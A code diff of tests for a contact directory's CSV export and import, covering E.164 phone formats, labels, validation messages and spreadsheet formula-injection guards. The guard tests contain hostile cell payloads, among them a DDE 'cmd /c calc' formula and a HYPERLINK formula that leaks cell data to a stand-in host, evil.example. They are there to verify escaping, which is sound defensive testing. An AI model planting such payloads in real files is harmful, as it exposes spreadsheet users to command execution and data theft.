@@ -31,8 +31,8 @@ const prosecutor = entry({
     ],
   },
   channels: [
-    { type: 'phone', value: '+227 20 72 34 56' },
-    { type: 'phone', value: '+227 96 00 00 01' },
+    { type: 'phone', value: '+22720723456' },
+    { type: 'phone', value: '+22796000001' },
     { type: 'email', value: 'a.maiga@justice.example.ne' },
   ],
   notes: 'Prefers a call before 10:00, "urgent" cases only.\nFor MLA requests, copy the central authority; no faxes.',
@@ -44,10 +44,10 @@ const desk = entry({
   name: 'Sala operativa — Servizio Centrale Immigrazione',
   roles: ['border_control', 'police_investigation'],
   channels: [
-    { type: 'phone', value: '+39 06 4686' },
+    { type: 'phone', value: '+39064686' },
     { type: 'email', value: 'sala.operativa@interno.example.it' },
     { type: 'secure_messaging', value: '@sala:matrix.example.it' },
-    { type: 'fax', value: '+39 06 4686 2222' },
+    { type: 'fax', value: '+390646862222' },
   ],
   retiredAt: '2026-11-01T09:00:00Z',
 });
@@ -95,7 +95,7 @@ describe('directory CSV export and re-import', () => {
 
   it('writes the header and cells in the documented formats, with CRLF line ends', () => {
     const csv = directoryToCsv([prosecutor, liaison]);
-    expect(csv.split('\r\n')[0]).toBe(DIRECTORY_CSV_EXPORT_COLUMNS.join(','));
+    expect(csv.split('\r\n')[0]).toBe(`\uFEFF${DIRECTORY_CSV_EXPORT_COLUMNS.join(',')}`);
     expect(csv.endsWith('\r\n')).toBe(true);
     // The only bare LF is the one inside the quoted notes cell.
     expect(csv.replace(/"Prefers[^"]*(""[^"]*)*"/, '').replace(/\r\n/g, '')).not.toContain('\n');
@@ -103,7 +103,7 @@ describe('directory CSV export and re-import', () => {
       ',prosecutor;central_authority_mla,mla;extradition,wacap;sahel-net,NER,,NER;TCD,central-mediterranean,fr;ha;en,no,Africa/Niamey,' +
         'mon-fri 08:00-17:00; sat 09:00-12:00,' +
         '2026-12-20..2027-01-03 Christmas leave\\; back on the 4th; 2027-02-01..2027-02-01,' +
-        '+227 20 72 34 56; +227 96 00 00 01,a.maiga@justice.example.ne,,,',
+        '+22720723456; +22796000001,a.maiga@justice.example.ne,,,',
     );
     expect(csv).toContain(',ne-ppn,2026-10-01,Ibrahim Sani,\r\n');
     expect(csv).toContain('sat-mon 20:00-23:59; fri,mon 07:30-12:00; mon-wed,fri 14:00-16:00');
@@ -111,11 +111,11 @@ describe('directory CSV export and re-import', () => {
 
   it('writes an empty file as the header alone, which an import refuses as having no entries', () => {
     const csv = directoryToCsv([]);
-    expect(csv).toBe(`${DIRECTORY_CSV_EXPORT_COLUMNS.join(',')}\r\n`);
+    expect(csv).toBe(`\uFEFF${DIRECTORY_CSV_EXPORT_COLUMNS.join(',')}\r\n`);
     expect(parseDirectoryCsv(csv).problems).toEqual([{ row: 1, field: '', message: 'the file has no entries below the header' }]);
   });
 
-  it('keeps spreadsheets from running free text as a formula, yet a phone number comes back unchanged', () => {
+  it('keeps spreadsheets from running a cell as a formula, by OWASP’s rule, yet an E.164 phone number stays callable', () => {
     const hostile = entry({
       ...desk,
       id: '0192f1e4-7a2b-7c3d-8e4f-5a6b7c8d9e04',
@@ -123,19 +123,37 @@ describe('directory CSV export and re-import', () => {
       title: '@SUM(1+1)',
       notes: '-2+3 is not a note',
       channels: [
-        { type: 'phone', value: '+39 06 4686' },
-        { type: 'phone', value: '-1 555 0100' },
+        { type: 'phone', value: '+39064686' },
+        { type: 'phone', value: '+393330000000' },
         { type: 'email', value: '=cmd|"/c calc"!A0' },
+        { type: 'secure_messaging', value: '-signal' },
+        { type: 'fax', value: '+390646862222', label: 'night' },
       ],
     });
     const csv = directoryToCsv([hostile]);
     const cells = csv.split('\r\n')[1] ?? '';
     expect(cells).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",'@SUM(1+1),`);
-    expect(cells).toContain(`,+39 06 4686; -1 555 0100,"'=cmd|""/c calc""!A0",`);
+    // Phones alone in E.164 are written as they are; a label makes the cell text, which is guarded.
+    expect(cells).toContain(`,+39064686; +393330000000,"'=cmd|""/c calc""!A0",'-signal,'+390646862222 [night],`);
     expect(cells).toContain(",'-2+3 is not a note,");
     const { rows, problems } = parseDirectoryCsv(csv);
     expect(problems).toEqual([]);
     expect(rows[0]?.draft).toStrictEqual(draftOf(hostile));
+  });
+
+  it.each([
+    ['=1+2', "'=1+2"],
+    ['+1 not a phone', "'+1 not a phone"],
+    ['-x', "'-x"],
+    ['@x', "'@x"],
+    ['\tx', "'\tx"],
+    ['\rx', `"'\rx"`],
+    ['\nx', `"'\nx"`],
+    ['x=1', 'x=1'],
+  ])('guards a cell beginning %j as %j', (notes, written) => {
+    // Not parsed: the schema trims text, but an export must not rely on what wrote the entry.
+    const csv = directoryToCsv([{ ...liaison, notes }]);
+    expect(csv).toContain(`,${written},`);
   });
 
   it('keeps a value that itself begins with an apostrophe before a formula sign', () => {
@@ -144,18 +162,23 @@ describe('directory CSV export and re-import', () => {
     expect(parseDirectoryCsv(csv).rows[0]?.draft.name).toBe("'=not a formula");
   });
 
-  it('groups channels by type in column order and leaves out their labels, which a CSV cell cannot hold', () => {
+  it('groups channels by type in column order, each with its label', () => {
     const labelled = entry({
       ...liaison,
       channels: [
-        { type: 'email', value: 'jon@example.es', label: 'office' },
-        { type: 'phone', value: '+221 33 000 00 00', label: 'embassy switchboard' },
+        { type: 'email', value: 'jon@example.es', label: 'office [Dakar]' },
+        { type: 'phone', value: '+221330000000', label: 'embassy switchboard; 24/7' },
+        { type: 'phone', value: '+221770000000' },
       ],
     });
-    const { rows } = parseDirectoryCsv(directoryToCsv([labelled]));
+    const csv = directoryToCsv([labelled]);
+    expect(csv).toContain(",'+221330000000 [embassy switchboard\\; 24/7]; +221770000000,jon@example.es [office \\[Dakar\\]],");
+    const { rows, problems } = parseDirectoryCsv(csv);
+    expect(problems).toEqual([]);
     expect(rows[0]?.draft.channels).toEqual([
-      { type: 'phone', value: '+221 33 000 00 00' },
-      { type: 'email', value: 'jon@example.es' },
+      { type: 'phone', value: '+221330000000', label: 'embassy switchboard; 24/7' },
+      { type: 'phone', value: '+221770000000' },
+      { type: 'email', value: 'jon@example.es', label: 'office [Dakar]' },
     ]);
   });
 });
@@ -224,16 +247,17 @@ describe('reading a file an administrator wrote', () => {
     ['0', false],
     ['', false],
   ])('reads always = %j as %s', (cell, always) => {
-    const csv = ['name,kind,roles,country,languages,time_zone,always,phone', `Desk,desk,consular,ITA,it,Europe/Rome,${cell},+39 06 1`].join(
-      '\n',
-    );
+    const csv = [
+      'name,kind,roles,country,languages,time_zone,always,phone',
+      `Desk,desk,consular,ITA,it,Europe/Rome,${cell},+39 06 4686 1`,
+    ].join('\n');
     expect(parseDirectoryCsv(csv).rows[0]?.draft.availability.always).toBe(always);
   });
 
   it('reports every problem of every row, naming the column, and still returns the valid rows', () => {
     const { rows, problems } = parseDirectoryCsv(
       file(
-        'Ana Ruiz,person,prosecutor,ESP,es;xx,Europe/Madrid,mon-fri 8-17,+34 91 000',
+        'Ana Ruiz,person,prosecutor,ESP,es;xx,Europe/Madrid,mon-fri 8-17,+34 91 000 00 00',
         'Desk Lampedusa,desk,border_control,ITA,it,Europe/Rome,mon-sun 00:00-23:59,+39 0922 000',
         ',persn,,FRX,,Mars/Olympus,mon 18:00-08:00; fri-fri 09:00-10:00; funday 09:00-10:00,',
       ),
@@ -257,7 +281,7 @@ describe('reading a file an administrator wrote', () => {
   it('maps problems deep inside a cell back to the column and the item written there', () => {
     const csv = [
       'name,kind,roles,country,languages,time_zone,hours,absences,phone,email,covers',
-      `Ana,person,prosecutor,ESP,es,Europe/Madrid,mon 09:00-12:00; tue 18:00-08:00,2027-01-10..2027-01-02 Leave; 2027-13-01,+34 91 000;+34 92,a@example.es;${'x'.repeat(201)},FRA;ESX`,
+      `Ana,person,prosecutor,ESP,es,Europe/Madrid,mon 09:00-12:00; tue 18:00-08:00,2027-01-10..2027-01-02 Leave; 2027-13-01,+34 91 000 00 00;+34 920 000 000,a@example.es;${'x'.repeat(201)},FRA;ESX`,
     ].join('\n');
     expect(parseDirectoryCsv(csv).problems).toEqual([
       { row: 2, field: 'covers', message: '"ESX" must be an ISO 3166-1 alpha-3 country code, e.g. ITA, NER, NGA' },
@@ -271,7 +295,7 @@ describe('reading a file an administrator wrote', () => {
   it('says which absence is not in the documented form', () => {
     const csv = [
       'name,kind,roles,country,languages,time_zone,absences,phone',
-      'A,person,consular,ITA,it,Europe/Rome,20/12/2026-03/01/2027,+39 06',
+      'A,person,consular,ITA,it,Europe/Rome,20/12/2026-03/01/2027,+39 06 4686 1',
     ].join('\n');
     expect(parseDirectoryCsv(csv).problems).toEqual([
       { row: 2, field: 'absences', message: '"20/12/2026-03/01/2027" is not like "2026-12-20..2027-01-03 Christmas leave"' },
@@ -279,9 +303,10 @@ describe('reading a file an administrator wrote', () => {
   });
 
   it('refuses an always cell that is neither yes nor no', () => {
-    const csv = ['name,kind,roles,country,languages,time_zone,always,phone', 'A,desk,consular,ITA,it,Europe/Rome,sometimes,+39 06'].join(
-      '\n',
-    );
+    const csv = [
+      'name,kind,roles,country,languages,time_zone,always,phone',
+      'A,desk,consular,ITA,it,Europe/Rome,sometimes,+39 06 4686 1',
+    ].join('\n');
     expect(parseDirectoryCsv(csv).problems).toEqual([{ row: 2, field: 'always', message: '"sometimes" is not yes or no' }]);
   });
 
@@ -315,7 +340,7 @@ describe('problems of the file as a whole', () => {
   });
 
   it('names every missing required column once, instead of a problem on every row', () => {
-    const csv = ['name,roles,phone', 'A,consular,+39 06', 'B,consular,+39 07'].join('\n');
+    const csv = ['name,roles,phone', 'A,consular,+39 06 4686 1', 'B,consular,+39 0712 345 678'].join('\n');
     expect(parseDirectoryCsv(csv)).toEqual({
       rows: [],
       problems: [{ row: 1, field: '', message: 'the header lacks the required columns kind, country, languages, time_zone' }],
@@ -325,7 +350,7 @@ describe('problems of the file as a whole', () => {
   it('refuses an unknown column at row 1, ignores the columns an export adds, and still checks the rows', () => {
     const csv = [
       `${HEADER},agency,last_verified,verified_by,retired_at,mobile`,
-      'A,person,consular,ITA,it,Europe/Rome,,+39 06,it-dcis,not a date,Someone,also not a date,+39 333',
+      'A,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1,it-dcis,not a date,Someone,also not a date,+39 333 000 0000',
       'B,person,consular,ITA,it,Europe/Rome,,,,,,,',
     ].join('\n');
     const { rows, problems } = parseDirectoryCsv(csv);
@@ -341,12 +366,12 @@ describe('problems of the file as a whole', () => {
   });
 
   it('refuses a column named twice, since either could be meant', () => {
-    const csv = [`${HEADER},phone`, 'A,person,consular,ITA,it,Europe/Rome,,+39 06,+39 07'].join('\n');
+    const csv = [`${HEADER},phone`, 'A,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1,+39 0712 345 678'].join('\n');
     expect(parseDirectoryCsv(csv).problems).toEqual([{ row: 1, field: 'phone', message: 'the column phone appears twice' }]);
   });
 
   it('refuses cells beyond the header, which belong to no column', () => {
-    const csv = file('A,person,consular,ITA,it,Europe/Rome,,+39 06,stray');
+    const csv = file('A,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1,stray');
     expect(parseDirectoryCsv(csv)).toEqual({
       rows: [],
       problems: [{ row: 2, field: '', message: 'the row has 9 cells but the header names 8 columns' }],
@@ -357,9 +382,9 @@ describe('problems of the file as a whole', () => {
     const id = '0192f1e4-7a2b-7c3d-8e4f-5a6b7c8d9e01';
     const csv = [
       `id,${HEADER}`,
-      `${id},A,person,consular,ITA,it,Europe/Rome,,+39 06`,
-      'desk-7,B,person,consular,ITA,it,Europe/Rome,,+39 06',
-      `${id.toUpperCase()},C,person,consular,ITA,it,Europe/Rome,,+39 06`,
+      `${id},A,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1`,
+      'desk-7,B,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1',
+      `${id.toUpperCase()},C,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1`,
     ].join('\n');
     const { rows, problems } = parseDirectoryCsv(csv);
     expect(problems).toEqual([
@@ -375,9 +400,9 @@ describe('problems of the file as a whole', () => {
 
   it('points at the row where a quoted cell is never closed', () => {
     const csv = file(
-      'A,person,consular,ITA,it,Europe/Rome,,+39 06',
-      'B,person,"consular,ITA,it,Europe/Rome,,+39 06',
-      'C,person,consular,ITA,it,Europe/Rome,,+39 06',
+      'A,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1',
+      'B,person,"consular,ITA,it,Europe/Rome,,+39 06 4686 1',
+      'C,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1',
     );
     expect(parseDirectoryCsv(csv)).toEqual({
       rows: [],
@@ -386,7 +411,7 @@ describe('problems of the file as a whole', () => {
   });
 
   it('accepts 5,000 entries and refuses 5,001 with one problem', () => {
-    const line = 'A,person,consular,ITA,it,Europe/Rome,,+39 06';
+    const line = 'A,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1';
     expect(parseDirectoryCsv(file(...Array(5000).fill(line))).rows).toHaveLength(5000);
     expect(parseDirectoryCsv(file(...Array(5001).fill(line)))).toEqual({
       rows: [],
@@ -422,7 +447,7 @@ describe('one entry as a form writes it', () => {
       phone: '1',
     });
     expect(bad.draft).toBeUndefined();
-    expect(bad.problems.map((p) => p.field)).toEqual(['roles', 'time_zone']);
+    expect(bad.problems.map((p) => p.field)).toEqual(['roles', 'time_zone', 'phone']);
   });
 
   it('starts an edit form from the entry’s own cells, which read back to the same entry', () => {
